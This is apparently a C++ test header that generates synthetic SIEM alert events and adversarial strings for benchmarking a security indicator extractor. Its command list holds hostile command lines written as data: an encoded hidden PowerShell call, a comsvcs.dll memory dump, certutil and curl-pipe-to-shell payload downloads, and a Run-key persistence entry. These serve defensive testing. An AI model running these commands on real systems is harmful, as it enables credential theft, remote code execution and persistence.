// Synthetic ordinary and hostile alert text for the extractor's timing test and benchmark.
#pragma once
#include <cstdint>
#include <string>
#include <vector>

namespace soc::extract_corpus {

// Deterministic generator so every run sees the same bytes.
class Rng {
 public:
  explicit Rng(std::uint64_t seed) : state_(seed) {}
  std::uint64_t next() {
    state_ ^= state_ << 13;
    state_ ^= state_ >> 7;
    state_ ^= state_ << 17;
    return state_;
  }
  std::size_t below(std::size_t n) { return static_cast<std::size_t>(next() % n); }
  std::string hex(std::size_t length) {
    static constexpr char kHex[] = "0123456789abcdef";
    std::string out;
    for (std::size_t i = 0; i < length; ++i) out.push_back(kHex[below(16)]);
    return out;
  }
  std::string ip() {
    return std::to_string(1 + below(223)) + "." + std::to_string(below(256)) + "." +
           std::to_string(below(256)) + "." + std::to_string(1 + below(254));
  }

 private:
  std::uint64_t state_;
};

// One ECS document per line, the mix a SIEM forwards: processes with command lines and hashes,
// network flows, DNS, authentication, e-mail and file events.
inline std::vector<std::string> ecs_events(std::size_t count, std::uint64_t seed = 42) {
  static const char* kUsers[] = {"alice", "bob", "svc-backup", "administrator", "jdoe"};
  static const char* kHosts[] = {"WKS-MARKETING-07", "SRV-DC-01", "SRV-FILE-01", "srv-web-prod-01"};
  static const char* kDomains[] = {
      "login.microsoftonline.com", "update-check.info", "cdn.example-secure.top",
      "raw.githubusercontent.com", "doc-secure.xyz",    "www.google.com"};
  static const char* kCommands[] = {
      "powershell.exe -nop -w hidden -enc "
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
      "cmd.exe /c whoami /all > C:\\\\Users\\\\Public\\\\out.txt",
      "rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 624 C:\\\\Temp\\\\l.dmp "
      "full",
      "certutil -urlcache -split -f http://%s/payload.exe C:\\\\Windows\\\\Temp\\\\p.exe",
      "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v upd /d "
      "C:\\\\ProgramData\\\\upd.exe",
      "/bin/bash -c curl -s https://%s/install.sh | sh"};
  Rng rng(seed);
  std::vector<std::string> out;
  out.reserve(count);
  for (std::size_t i = 0; i < count; ++i) {
    std::string ts = "2024-07-0" + std::to_string(1 + rng.below(9)) + "T" +
                     std::to_string(10 + rng.below(14)) + ":" + std::to_string(10 + rng.below(50)) +
                     ":" + std::to_string(10 + rng.below(50)) + ".746Z";
    std::string user = kUsers[rng.below(5)];
    std::string host = kHosts[rng.below(4)];
    std::string line = "{\"@timestamp\":\"" + ts + "\",\"host\":{\"name\":\"" + host +
                       "\",\"os\":{\"family\":\"windows\"}},\"user\":{\"name\":\"" + user + "\"},";
    switch (rng.below(5)) {
      case 0: {
        std::string cmd = kCommands[rng.below(6)];
        std::size_t hole = cmd.find("%s");
        if (hole != std::string::npos) cmd.replace(hole, 2, kDomains[rng.below(6)]);
        line +=
            "\"event\":{\"category\":[\"process\"],\"type\":[\"start\"],\"action\":\"Process "
            "Create\"},"
            "\"process\":{\"pid\":" +
            std::to_string(rng.below(9000)) + ",\"command_line\":\"" + cmd +
            "\",\"executable\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
            "\"hash\":{\"md5\":\"" +
            rng.hex(32) + "\",\"sha256\":\"" + rng.hex(64) +
            "\"},\"parent\":{\"name\":\"explorer.exe\"}}}";
        break;
      }
      case 1:
        line +=
            "\"event\":{\"category\":[\"network\"],\"action\":\"connection_attempted\"},"
            "\"source\":{\"ip\":\"10.0." +
            std::to_string(rng.below(256)) + "." + std::to_string(rng.below(256)) +
            "\",\"port\":" + std::to_string(49152 + rng.below(16000)) +
            "},\"destination\":{\"ip\":\"" + rng.ip() +
            "\",\"port\":443},"
            "\"network\":{\"transport\":\"tcp\",\"protocol\":\"tls\"}}";
        break;
      case 2:
        line +=
            "\"event\":{\"category\":[\"network\"],\"action\":\"dns_query\"},\"dns\":{\"question\":"
            "{\"name\":\"" +
            std::string(kDomains[rng.below(6)]) +
            "\",\"type\":\"A\"},"
            "\"resolved_ip\":[\"" +
            rng.ip() + "\"]}}";
        break;
      case 3:
        line +=
            "\"event\":{\"category\":[\"authentication\"],\"outcome\":\"failure\"},"
            "\"source\":{\"ip\":\"" +
            rng.ip() + "\"},\"message\":\"Failed password for " + user + " from " + rng.ip() +
            " port 22 ssh2\"}";
        break;
      default:
        line +=
            "\"event\":{\"category\":[\"email\"]},\"email\":{\"from\":{\"address\":[\"facture-"
            "urgent@" +
            std::string(kDomains[rng.below(6)]) + "\"]},\"to\":{\"address\":[\"" + user +
            "@corp.fr\"]},\"subject\":\"Facture en retard - action requise\","
            "\"attachments\":[{\"file\":{\"name\":\"facture.pdf.exe\",\"hash\":{\"sha256\":\"" +
            rng.hex(64) + "\"}}}]},\"url\":{\"full\":\"hxxps://" + kDomains[rng.below(6)] +
            "/invoice?id=" + std::to_string(rng.below(100000)) + "\"}}";
    }
    out.push_back(std::move(line));
  }
  return out;
}

// Text built to make a naive extractor slow: near-matches that every validator must look at
// and reject, long "../" runs, one huge dotted name (block_bytes / 2 labels), a run of hex far
// longer than any hash. One text per pattern, each about `block_bytes` long.
inline std::vector<std::string> adversarial_texts(std::size_t block_bytes) {
  std::vector<std::string> out;
  auto repeat = [&](const std::string& unit) {
    std::string s;
    while (s.size() < block_bytes) s += unit;
    out.push_back(std::move(s));
  };
  repeat("../");  // long traversal runs
  repeat("a.");   // one huge domain-like name
  out.back() += "com";
  repeat("0123456789abcdef");  // a megabyte of hex
  repeat("1.2.3.4.5.");        // dotted numbers that never end
  repeat("x@y@");              // local parts that never get a domain
  repeat("CVE-2021-");         // identifiers cut short
  repeat("T105.T10590 ");
  repeat("hxxp://[:");                                  // URL schemes without hosts
  repeat("C:\\ %X%\\ \\\\ ");                           // path roots with nothing after them
  repeat("[.](dot)[@](at)");                            // defang groups with nothing around
  repeat("::::ffff:");                                  // IPv6-ish colons
  repeat("evil.exe ");                                  // file names that are no domains
  repeat("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-");  // long alphanumeric runs
  repeat("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb ");        // base58 with a bad checksum
  return out;
}

}  // namespace soc::extract_corpus
